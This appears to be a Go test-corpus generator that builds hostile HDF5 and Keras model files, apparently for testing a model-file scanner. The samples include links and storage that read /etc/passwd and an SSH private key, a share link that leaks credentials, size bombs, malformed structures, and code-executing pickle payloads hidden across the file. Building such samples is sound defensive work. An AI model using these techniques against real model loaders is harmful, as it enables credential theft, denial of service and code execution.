package hostile

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"strings"
)

// h5 collects the bytes of an HDF5 file of version 0. Structures are written before those that refer to them.
type h5 struct{ b []byte }

const h5None = ^uint64(0) // the address that means none

// u16, u32 and u64 are little-endian numbers.
func u16(n int) []byte    { return binary.LittleEndian.AppendUint16(nil, uint16(n)) }
func u32(n uint32) []byte { return binary.LittleEndian.AppendUint32(nil, n) }
func u64(n uint64) []byte { return binary.LittleEndian.AppendUint64(nil, n) }

// cat joins parts; pad fills up to eight bytes.
func cat(parts ...[]byte) []byte { return bytes.Join(parts, nil) }
func pad(b []byte) []byte        { return append(bytes.Clone(b), make([]byte, (8-len(b)%8)%8)...) }
func zero(n int) []byte          { return make([]byte, n) }

// put appends a structure and returns its address.
func (w *h5) put(b []byte) uint64 {
	if len(w.b) == 0 {
		w.b = make([]byte, 96) // for the superblock
	}
	w.b = append(w.b, zero((8-len(w.b)%8)%8)...)
	at := len(w.b)
	w.b = append(w.b, b...)
	return uint64(at)
}

// h5msg is a message of an object header.
func h5msg(kind int, data []byte) []byte {
	data = pad(data)
	return cat(u16(kind), u16(len(data)), zero(4), data)
}

// header writes an object header.
func (w *h5) header(messages ...[]byte) uint64 {
	body := cat(messages...)
	return w.put(cat([]byte{1, 0}, u16(len(messages)), u32(1), u32(uint32(len(body))), zero(4), body))
}

// group writes a group with its links and attributes.
func (w *h5) group(messages ...[]byte) uint64 {
	return w.header(append([][]byte{h5msg(0x02, cat([]byte{0, 0}, u64(h5None), u64(h5None))), h5msg(0x0a, []byte{0, 0})}, messages...)...)
}

// h5link is a link of any kind.
func h5link(kind byte, name string, value []byte) []byte {
	return h5msg(0x06, cat([]byte{1, 0x18, kind, 0, byte(len(name))}, []byte(name), value))
}

func h5hard(name string, address uint64) []byte { return h5link(0, name, u64(address)) }
func h5soft(name, target string) []byte {
	return h5link(1, name, cat(u16(len(target)), []byte(target)))
}
func h5external(name, file, target string) []byte {
	value := "\x00" + file + "\x00" + target + "\x00"
	return h5link(64, name, cat(u16(len(value)), []byte(value)))
}

// The datatypes: floats, bytes, text and opaque content of n bytes, sequences of bytes.
func h5floats() []byte {
	return cat([]byte{0x11, 0x20, 0x1f, 0}, u32(4), u16(0), u16(32), []byte{23, 8, 0, 23}, u32(127))
}
func h5bytes() []byte     { return cat([]byte{0x10, 0, 0, 0}, u32(1), u16(0), u16(8)) }
func h5text(n int) []byte { return cat([]byte{0x13, 0, 0, 0}, u32(uint32(n))) }
func h5opaque(n int) []byte {
	return cat([]byte{0x15, 0, 0, 0}, u32(uint32(n)), []byte("void\x00\x00\x00\x00"))
}
func h5variable() []byte { return cat([]byte{0x19, 0, 0, 0}, u32(16), h5bytes()) }

// h5space is a dataspace; that of a scalar for no dimensions.
func h5space(dims ...uint64) []byte {
	b := cat([]byte{1, byte(len(dims)), 0, 0}, zero(4))
	for _, d := range dims {
		b = append(b, u64(d)...)
	}
	return b
}

// h5attr is an attribute.
func h5attr(name string, typ, space, data []byte) []byte {
	return h5msg(0x0c, cat([]byte{1, 0}, u16(len(name)+1), u16(len(typ)), u16(len(space)), pad([]byte(name+"\x00")), pad(typ), pad(space), data))
}

// h5string is an attribute of text.
func h5string(name, value string) []byte {
	return h5attr(name, h5text(len(value)), h5space(), []byte(value))
}

// h5layout is the message that says where a dataset is.
func h5layout(b ...[]byte) []byte { return h5msg(0x08, cat(b...)) }

// contiguous is the layout of a dataset in one piece.
func contiguous(address uint64, n int) []byte {
	return h5layout([]byte{3, 1}, u64(address), u64(uint64(n)))
}

// dataset writes a dataset.
func (w *h5) dataset(typ, space []byte, messages ...[]byte) uint64 {
	return w.header(append([][]byte{h5msg(0x01, space), h5msg(0x03, typ), h5msg(0x05, []byte{2, 2, 0, 0})}, messages...)...)
}

// weights writes an honest dataset of four floats.
func (w *h5) weights() uint64 {
	return w.dataset(h5floats(), h5space(4), contiguous(w.put(floats()), 16))
}

// content writes a dataset of bytes.
func (w *h5) content(b []byte) uint64 {
	return w.dataset(h5bytes(), h5space(uint64(len(b))), contiguous(w.put(b), len(b)))
}

// stored writes a dataset whose elements are in another file.
func (w *h5) stored(file string) uint64 {
	data := w.put(pad([]byte("\x00" + file + "\x00")))
	size := uint64(len(w.b)) - data
	heap := w.put(cat([]byte("HEAP\x00\x00\x00\x00"), u64(size), u64(1), u64(data))) // 1 is the end of the list of free parts
	return w.dataset(h5bytes(), h5space(16), contiguous(h5None, 16),
		h5msg(0x07, cat([]byte{1, 0, 0, 0}, u16(1), u16(1), u64(heap), u64(1), u64(0), u64(16))))
}

// collection writes objects into a collection of the global heap.
func (w *h5) collection(objects ...[]byte) uint64 {
	var body []byte
	for i, o := range objects {
		body = cat(body, u16(i+1), u16(1), zero(4), u64(uint64(len(o))), pad(o))
	}
	size := max(4096, len(body)+64)
	free := size - 16 - len(body)
	return w.put(cat([]byte("GCOL\x01\x00\x00\x00"), u64(uint64(size)), body, zero(8), u64(uint64(free)), zero(free-16)))
}

// virtual writes a virtual dataset that is all of a dataset of another file.
func (w *h5) virtual(version byte, file, name string) uint64 {
	all := cat(u32(3), u32(1), zero(4), u32(0))
	block := cat([]byte{version}, u64(1), []byte(file+"\x00"+name+"\x00"), all, all)
	block = append(block, u32(lookup3(block))...)
	return w.dataset(h5floats(), h5space(4), h5layout([]byte{4, 3}, u64(w.collection(block)), u32(1)))
}

// compressed writes a dataset of bytes in one chunk with gzip.
func (w *h5) compressed(b []byte) uint64 {
	var z bytes.Buffer
	c := zlib.NewWriter(&z)
	if _, err := c.Write(b); err != nil {
		return h5None
	}
	if err := c.Close(); err != nil {
		return h5None
	}
	chunk := w.put(z.Bytes())
	key := func(size int, at uint64) []byte { return cat(u32(uint32(size)), u32(0), u64(at), u64(0)) }
	node := cat([]byte("TREE\x01\x00"), u16(1), u64(h5None), u64(h5None), key(z.Len(), 0), u64(chunk), key(0, uint64(len(b))))
	tree := w.put(append(node, zero(24+65*24+64*8-len(node))...))
	return w.dataset(h5bytes(), h5space(uint64(len(b))), h5layout([]byte{3, 2, 2}, u64(tree), u32(uint32(len(b))), u32(1)),
		h5msg(0x0b, cat([]byte{1, 1}, zero(6), u16(1), u16(8), u16(1), u16(1), []byte("deflate\x00"), u32(4), zero(4))))
}

// end writes the superblock and returns the file.
func (w *h5) end(root uint64) []byte {
	superblock := cat([]byte("\x89HDF\r\n\x1a\n\x00\x00\x00\x00\x00\x08\x08\x00"), u16(4), u16(16), u32(0), u64(0), u64(h5None), u64(uint64(len(w.b))),
		u64(h5None), u64(0), u64(root), zero(24))
	return append(superblock, w.b[len(superblock):]...)
}

// lookup3 is Bob Jenkins' hash of that name, the checksum of HDF5.
func lookup3(b []byte) uint32 {
	a := uint32(0xdeadbeef) + uint32(len(b))
	x, y, z := a, a, a
	word := func(at int) uint32 {
		var four [4]byte
		copy(four[:], b[min(at, len(b)):])
		return binary.LittleEndian.Uint32(four[:])
	}
	rot := func(n uint32, by int) uint32 { return n<<by | n>>(32-by) }
	for ; len(b) > 12; b = b[12:] {
		x, y, z = x+word(0), y+word(4), z+word(8)
		x = (x - z) ^ rot(z, 4)
		z += y
		y = (y - x) ^ rot(x, 6)
		x += z
		z = (z - y) ^ rot(y, 8)
		y += x
		x = (x - z) ^ rot(z, 16)
		z += y
		y = (y - x) ^ rot(x, 19)
		x += z
		z = (z - y) ^ rot(y, 4)
		y += x
	}
	if len(b) == 0 {
		return z
	}
	x, y, z = x+word(0), y+word(4), z+word(8)
	z = (z ^ y) - rot(y, 14)
	x = (x ^ z) - rot(z, 11)
	y = (y ^ x) - rot(x, 25)
	z = (z ^ y) - rot(y, 16)
	x = (x ^ z) - rot(z, 4)
	y = (y ^ x) - rot(x, 14)
	return (z ^ y) - rot(y, 24)
}

// keras writes weights as Keras 3 does, with what is given in a layer.
func (w *h5) keras(messages ...[]byte) []byte {
	layer := w.group(append(messages, h5hard("0", w.weights()))...)
	vars := w.group(h5hard("vars", layer))
	return w.end(w.group(h5hard("layers", w.group(h5hard("dense", vars)))))
}

// legacy writes a model as Keras 2 does, with its configurations.
func legacy(model, training string) []byte {
	w := &h5{}
	messages := [][]byte{h5string("keras_version", "2.15.0"), h5string("backend", "tensorflow"), h5string("model_config", model)}
	if training != "" {
		messages = append(messages, h5string("training_config", training))
	}
	return w.end(w.group(append(messages, h5hard("model_weights", w.group(h5hard("dense", w.weights()))))...))
}

// hdf5Samples are HDF5 files.
func hdf5Samples() []Sample {
	file := func(id, technique string, make func(w *h5) []byte) Sample {
		return Sample{Name: "hdf5-" + id + ".h5", Group: "hdf5", Technique: technique, Loader: "h5py",
			Build: func() ([]byte, error) { return make(&h5{}), nil }}
	}
	away := func(id, technique string, make func(w *h5) []byte) Sample {
		s := file(id, technique, make)
		s.Group = "hdf5-other-file"
		return s
	}
	inside := func(id, technique string, make func(w *h5) []byte) Sample {
		s := file(id, technique, make)
		s.Group = "hdf5-payload"
		return s
	}
	attack := attackPickle()
	text := []byte("cposix\nsystem\n(S'echo " + Marker + "'\ntR.")
	alone := func(w *h5, message []byte) []byte { return w.end(w.group(message)) }
	return []Sample{
		away("external-link", "CVE-2026-1669: a weight is a link to a file of the machine", func(w *h5) []byte {
			return w.keras(h5external("1", "/etc/passwd", "/x"))
		}),
		away("external-link-parent", "CVE-2026-1669: a weight is a link to a file above the model", func(w *h5) []byte {
			return w.keras(h5external("1", "../../other/model.h5", "/secret"))
		}),
		away("external-link-beside", "CVE-2026-1669: a weight of a model is a link to a file beside it", func(w *h5) []byte {
			return w.keras(h5external("1", "other.h5", "/secret"))
		}),
		away("external-link-address", "a link to an address", func(w *h5) []byte { return w.keras(h5external("1", "http://127.0.0.1:9/x.h5", "/x")) }),
		away("external-link-windows", "a link to a share of another machine, which sends credentials there", func(w *h5) []byte {
			return alone(w, h5external("data", `\\127.0.0.1\share\x.h5`, "/x"))
		}),
		away("external-link-soft", "a soft link through a link to another file", func(w *h5) []byte {
			return w.end(w.group(h5soft("weights", "/other/secret"), h5external("other", "/srv/models/private.h5", "/")))
		}),
		away("external-storage", "CVE-2026-1669: a weight is the first bytes of a file of the machine", func(w *h5) []byte {
			return w.keras(h5hard("1", w.stored("/etc/passwd")))
		}),
		away("external-storage-beside", "CVE-2026-1669: a weight of a model is stored in a file beside it", func(w *h5) []byte {
			return w.keras(h5hard("1", w.stored("config.json")))
		}),
		away("external-storage-plain", "a dataset is the first bytes of a file above it", func(w *h5) []byte {
			return alone(w, h5hard("data", w.stored("../../.ssh/id_ed25519")))
		}),
		away("virtual", "CVE-2026-1669: a weight is made of a dataset in another file", func(w *h5) []byte {
			return w.keras(h5hard("1", w.virtual(0, "/srv/models/private.h5", "secret")))
		}),
		away("virtual-unknown", "a virtual dataset whose mappings cannot be decoded", func(w *h5) []byte {
			return alone(w, h5hard("data", w.virtual(9, "/srv/models/private.h5", "secret")))
		}),
		away("plugin-link", "a link of a class that only a plugin follows", func(w *h5) []byte {
			return alone(w, h5link(70, "data", cat(u16(4), []byte("data"))))
		}),
		away("after-a-cycle", "groups that lead back to each other, and behind them a link to another file", func(w *h5) []byte {
			const later = 0x7069636b65742121 // stands for an address that is not known yet
			first := w.group(h5hard("x", later))
			second := w.group(h5hard("up", first), h5external("y", "/etc/passwd", "/"))
			w.b = bytes.Replace(w.b, u64(later), u64(second), 1)
			return w.end(first)
		}),
		away("broken-before", "a broken attribute before a link to another file", func(w *h5) []byte {
			return w.end(w.group(h5msg(0x0c, []byte{1, 0, 255, 255, 255, 255, 255, 255}), h5external("y", "/etc/passwd", "/")))
		}),
		file("shape-bomb", "GHSA-xfhx-r7ww-5995: a weight of 4 TB of which nothing is stored", func(w *h5) []byte {
			return w.keras(h5hard("1", w.dataset(h5floats(), h5space(1<<20, 1<<20), contiguous(h5None, 0))))
		}),
		file("shape-overflow", "GHSA-xfhx-r7ww-5995: a shape whose product overflows", func(w *h5) []byte {
			return w.keras(h5hard("1", w.dataset(h5floats(), h5space(1<<32, 1<<32, 4), contiguous(h5None, 0))))
		}),
		file("chunk-bomb", "a chunk of 64 GB", func(w *h5) []byte {
			return w.keras(h5hard("1", w.dataset(h5floats(), h5space(1<<34), h5layout([]byte{3, 2, 2}, u64(h5None), u32(1<<31), u32(32)))))
		}),
		inside("dataset", "a pickle in a dataset of bytes", func(w *h5) []byte { return alone(w, h5hard("model", w.content(attack))) }),
		inside("dataset-gzip", "a pickle in a compressed dataset of bytes", func(w *h5) []byte { return alone(w, h5hard("model", w.compressed(attack))) }),
		inside("dataset-compact", "a pickle in a dataset in the object header", func(w *h5) []byte {
			return alone(w, h5hard("model", w.dataset(h5bytes(), h5space(uint64(len(attack))), h5layout([]byte{3, 0}, u16(len(attack)), attack))))
		}),
		inside("attribute-opaque", "a pickle in an attribute", func(w *h5) []byte { return alone(w, h5attr("model", h5opaque(len(attack)), h5space(), attack)) }),
		inside("attribute-bytes", "a pickle in an attribute that is an array of bytes", func(w *h5) []byte {
			return alone(w, h5attr("model", h5bytes(), h5space(uint64(len(attack))), attack))
		}),
		inside("attribute-text", "PyTables: a pickle of protocol 0 in an attribute of text", func(w *h5) []byte {
			return alone(w, h5string("FILTERS", string(text)))
		}),
		inside("attribute-second", "a pickle in the second text of an attribute", func(w *h5) []byte {
			n := len(text)
			return alone(w, h5attr("names", h5text(n), h5space(2), cat([]byte("dense"), zero(n-5), text)))
		}),
		inside("attribute-variable", "PyTables: a pickle in the global heap", func(w *h5) []byte {
			heap := w.collection(attack)
			return alone(w, h5attr("model", h5variable(), h5space(), cat(u32(uint32(len(attack))), u64(heap), u32(1))))
		}),
		inside("heap", "a pickle in the global heap that a compressed dataset refers to", func(w *h5) []byte {
			w.collection(attack)
			return alone(w, h5hard("w", w.weights()))
		}),
		inside("hole", "a pickle between two datasets", func(w *h5) []byte {
			w.put(attack)
			return alone(w, h5hard("w", w.weights()))
		}),
		inside("trailing", "a pickle after the end", func(w *h5) []byte { return append(w.keras(), attack...) }),
		inside("user-block", "a pickle in the user block: the file is both", func(w *h5) []byte {
			return append(append(bytes.Clone(attack), zero(512-len(attack))...), w.keras()...)
		}),
		inside("user-block-large", "text in a user block of a mebibyte hides a model with a link to another file", func(w *h5) []byte {
			return append(bytes.Repeat([]byte("plain\ntext\n      "), 1<<20/16)[:1<<20], w.keras(h5external("1", "/etc/passwd", "/x"))...)
		}),
		file("deep", "300 groups in groups", func(w *h5) []byte {
			at := w.group()
			for range 300 {
				at = w.group(h5hard("g", at))
			}
			return w.end(at)
		}),
		file("continues", "an object header that continues in itself", func(w *h5) []byte {
			at := w.header(h5msg(0x10, cat(u64(112), u64(24))))
			return w.end(at)
		}),
		file("header-length", "an object header of 4 GB", func(w *h5) []byte { return w.end(w.put(cat([]byte{1, 0, 1, 0}, u32(1), u32(1<<32-8), zero(64)))) }),
		file("superblock-unknown", "a superblock of an unknown version", func(w *h5) []byte {
			b := w.keras()
			b[8] = 7
			return b
		}),
		file("root-outside", "a root group behind the end", func(w *h5) []byte {
			w.weights()
			return w.end(1 << 40)
		}),
		file("cut", "a file that ends in its root group", func(w *h5) []byte { b := w.keras(); return b[:len(b)-40] }),
		file("link-name-length", "a link with a name of 2^60 bytes", func(w *h5) []byte {
			return alone(w, h5msg(0x06, cat([]byte{1, 0x03}, u64(1<<60), []byte(strings.Repeat("x", 16)))))
		}),
		file("overlap", "a hundred weights over the same bytes", func(w *h5) []byte {
			at, messages := w.put(attack), [][]byte(nil)
			for i := range 100 {
				messages = append(messages, h5hard("w"+strings.Repeat("x", i), w.dataset(h5bytes(), h5space(uint64(len(attack))), contiguous(at, len(attack)))))
			}
			return w.keras(messages...)
		}),
	}
}
